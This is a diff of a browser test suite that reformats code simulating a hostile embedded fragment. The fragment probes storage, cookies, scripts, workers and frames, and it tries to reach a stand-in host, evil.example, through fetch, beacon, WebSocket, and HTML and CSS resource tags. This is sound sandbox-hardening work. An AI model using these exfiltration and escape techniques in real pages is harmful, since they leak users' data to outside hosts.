@@ -70,9 +70,12 @@ test.describe('[F15] [F37] what a hostile fragment tries', () => {
   const tries = (code: string) =>
     `export default async ({ root, navigate }) => {
       const results = [];
-      const attempt = async (name, act) => { try { results.push(name + ': ' + await act()); } catch (error) { results.push(name + ': refused'); } };
+      const attempt = async (name, act) => {
+        try { results.push(name + ': ' + await act()); } catch (error) { results.push(name + ': refused'); }
+      };
       ${code}
-      root.innerHTML = '<pre id="results"></pre><button id="press">Press</button><a id="link" href="/discussions">In</a><a id="bad" href="javascript:top.hacked=1">Bad</a>';
+      root.innerHTML = '<pre id="results"></pre><button id="press">Press</button>' +
+        '<a id="link" href="/discussions">In</a><a id="bad" href="javascript:top.hacked=1">Bad</a>';
       root.querySelector('pre').textContent = results.join('\\n');
     }`;
 
@@ -86,10 +89,19 @@ test.describe('[F15] [F37] what a hostile fragment tries', () => {
         await attempt('cookies', () => document.cookie);
         await attempt('localStorage', () => localStorage.length);
         await attempt('sessionStorage', () => sessionStorage.length);
-        await attempt('indexedDB', () => new Promise((done, fail) => { const open = indexedDB.open('x'); open.onsuccess = done; open.onerror = () => fail(1); }));
+        await attempt('indexedDB', () => new Promise((done, fail) => {
+          const open = indexedDB.open('x');
+          open.onsuccess = done;
+          open.onerror = () => fail(1);
+        }));
         await attempt('own API', async () => (await fetch('/api/v2/users/me')).status);
         await attempt('eval', () => eval('1 + 1'));
-        await attempt('inline script', () => new Promise((done, fail) => { const script = document.createElement('script'); script.textContent = 'window.inline = 1'; document.body.append(script); window.inline ? done('ran') : fail(1); }));
+        await attempt('inline script', () => new Promise((done, fail) => {
+          const script = document.createElement('script');
+          script.textContent = 'window.inline = 1';
+          document.body.append(script);
+          window.inline ? done('ran') : fail(1);
+        }));
         await attempt('popup', () => { const opened = open('/'); if (!opened) throw 1; return 'opened'; });
         await attempt('peer connection', () => { new RTCPeerConnection(); return 'made'; });
         await attempt('peer connection of an inner frame', async () => {
@@ -110,7 +122,8 @@ test.describe('[F15] [F37] what a hostile fragment tries', () => {
         await attempt('script in an inner frame', () => hear('<script src="' + url + '"></scr' + 'ipt>'));
         await attempt('module in an inner frame', () => hear('<script type=module src="' + url + '"></scr' + 'ipt>'));
         await attempt('inline script in an inner frame', () => hear('<script>' + script + '</scr' + 'ipt>'));
-        await attempt('import of its own in an inner frame', () => hear('<script type=module src="' + import.meta.url + '"></scr' + 'ipt>'));
+        await attempt('import of its own in an inner frame', () =>
+          hear('<script type=module src="' + import.meta.url + '"></scr' + 'ipt>'));
         await attempt('document of its own address', () => new Promise((done, fail) => {
           addEventListener('message', ({ data }) => data.inner && done(data.inner));
           setTimeout(fail, 600);
@@ -118,7 +131,12 @@ test.describe('[F15] [F37] what a hostile fragment tries', () => {
           inner.src = URL.createObjectURL(new Blob(['<script>' + script + '</scr' + 'ipt>'], { type: 'text/html' }));
           document.body.append(inner);
         }));
-        await attempt('worker', () => new Promise((done, fail) => { const worker = new Worker(url); worker.onerror = fail; worker.onmessage = done; setTimeout(fail, 500); }));
+        await attempt('worker', () => new Promise((done, fail) => {
+          const worker = new Worker(url);
+          worker.onerror = fail;
+          worker.onmessage = done;
+          setTimeout(fail, 500);
+        }));
       `),
     });
     await page.goto('/');
@@ -139,10 +157,31 @@ test.describe('[F15] [F37] what a hostile fragment tries', () => {
         const url = 'https://evil.example/?';
         await attempt('fetch', async () => (await fetch(url + 'fetch', { mode: 'no-cors' })).type);
         await attempt('beacon', () => { if (!navigator.sendBeacon(url + 'beacon', 'x')) throw 1; return 'queued'; });
-        await attempt('socket', () => new Promise((done, fail) => { const socket = new WebSocket('wss://evil.example/'); socket.onopen = done; socket.onerror = () => fail(1); }));
-        await attempt('events', () => new Promise((done, fail) => { const source = new EventSource(url + 'events'); source.onopen = done; source.onerror = () => fail(1); }));
+        await attempt('socket', () => new Promise((done, fail) => {
+          const socket = new WebSocket('wss://evil.example/');
+          socket.onopen = done;
+          socket.onerror = () => fail(1);
+        }));
+        await attempt('events', () => new Promise((done, fail) => {
+          const source = new EventSource(url + 'events');
+          source.onopen = done;
+          source.onerror = () => fail(1);
+        }));
         await attempt('import', () => import(url + 'import'));
-        for (const html of ['<img src="https://evil.example/?img">', '<link rel="stylesheet" href="https://evil.example/?css">', '<iframe src="https://evil.example/?frame"></iframe>', '<form action="https://evil.example/?form"><button></button></form>', '<style>body{background:url(https://evil.example/?background)} @import "https://evil.example/?import-css"; @font-face{font-family:x;src:url(https://evil.example/?font)} body{font-family:x}</style>', '<video src="https://evil.example/?video" poster="https://evil.example/?poster"></video>', '<object data="https://evil.example/?object"></object>', '<link rel="prefetch" href="https://evil.example/?prefetch"><link rel="preconnect" href="https://evil.example">', '<meta http-equiv="refresh" content="0;url=https://evil.example/?refresh">', '<base href="https://evil.example/"><script src="x"></script>']) document.body.insertAdjacentHTML('beforeend', html);
+        for (const html of [
+          '<img src="https://evil.example/?img">',
+          '<link rel="stylesheet" href="https://evil.example/?css">',
+          '<iframe src="https://evil.example/?frame"></iframe>',
+          '<form action="https://evil.example/?form"><button></button></form>',
+          '<style>body{background:url(https://evil.example/?background)} @import "https://evil.example/?import-css"; ' +
+            '@font-face{font-family:x;src:url(https://evil.example/?font)} body{font-family:x}</style>',
+          '<video src="https://evil.example/?video" poster="https://evil.example/?poster"></video>',
+          '<object data="https://evil.example/?object"></object>',
+          '<link rel="prefetch" href="https://evil.example/?prefetch">',
+          '<link rel="preconnect" href="https://evil.example">',
+          '<meta http-equiv="refresh" content="0;url=https://evil.example/?refresh">',
+          '<base href="https://evil.example/"><script src="x"></script>',
+        ]) document.body.insertAdjacentHTML('beforeend', html);
         document.querySelector('form')?.requestSubmit();
       `),
       css: '@import "https://evil.example/?own-css"; p { background: url(https://evil.example/?own-background) }',
